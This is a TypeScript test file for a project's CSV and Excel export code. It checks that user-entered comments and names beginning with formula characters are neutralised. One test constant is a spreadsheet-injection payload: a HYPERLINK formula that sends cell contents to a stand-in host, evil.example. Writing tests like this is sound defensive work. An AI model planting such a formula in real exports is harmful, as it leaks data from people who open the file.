// Exports that carry what people typed (a rating's comment, names) cannot become formulas in a spreadsheet: a CSV
// cell starting with = + - @, a tab or a CR gets a leading apostrophe; a workbook writes text as text cells.
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { csvCell, csvDocument, inertText } from '../../src/domain/csv.js'
import { MEASURE_COLUMNS, statisticsWorkbook } from '../../src/features/statistics/statistics.workbook.js'
import type { Statistics } from '../../src/features/statistics/statistics.service.js'

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'

describe('CSV cells', () => {
  it('a hostile comment is made inert and quoted; every formula start is covered', () => {
    expect(csvCell(HOSTILE)).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`)
    for (const s of ['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\rX']) expect(inertText(s)).toBe(`'${s}`)
    expect(csvCell('\r=1')).toBe(`"'\r=1"`)
    expect(csvCell('服务态度差')).toBe('服务态度差')
    expect(csvCell('a=b')).toBe('a=b') // only a leading sign starts a formula
  })

  it('numbers, booleans and nothing are written as they are (a negative number stays a number)', () => {
    expect([csvCell(-3), csvCell(4.5), csvCell(true), csvCell(null), csvCell(undefined)]).toEqual(['-3', '4.5', 'true', '', ''])
  })

  it('a document: BOM, CRLF, the header, a hostile record in one inert cell', () => {
    const doc = csvDocument(['ratingId', 'comment', 'score'], [{ ratingId: 1, comment: HOSTILE, score: 1 }, { ratingId: 2, comment: '-', score: 5 }])
    expect(doc.startsWith('\uFEFF')).toBe(true)
    const lines = doc.slice(1).split('\r\n')
    expect(lines).toEqual(['ratingId,comment,score', `1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",1`, "2,'-,5", ''])
  })
})

describe('workbooks', () => {
  it('the statistics workbook writes a hostile name as a text cell, not a formula', async () => {
    const values = Object.fromEntries(MEASURE_COLUMNS.map((c) => [c.key, 0]))
    const s = {
      groupBy: 'person', from: '2026-01-01', to: '2026-05-31', rows: [{ key: '1', name: HOSTILE, ...values }], totals: values,
      coverage: { villageRooms: 0, villageRoomsUsed: 0, rate: null }, entry: { requiredUnits: 0, enteredUnits: 0, rate: null },
    } as unknown as Statistics
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(await statisticsWorkbook(s, '+城关镇') as never)
    const cell = wb.getWorksheet('按工作人员')!.getCell('A2')
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.value).toBe(HOSTILE)
    expect(wb.getWorksheet('总体指标')!.getCell('B2').type).toBe(ExcelJS.ValueType.String)
  })
})
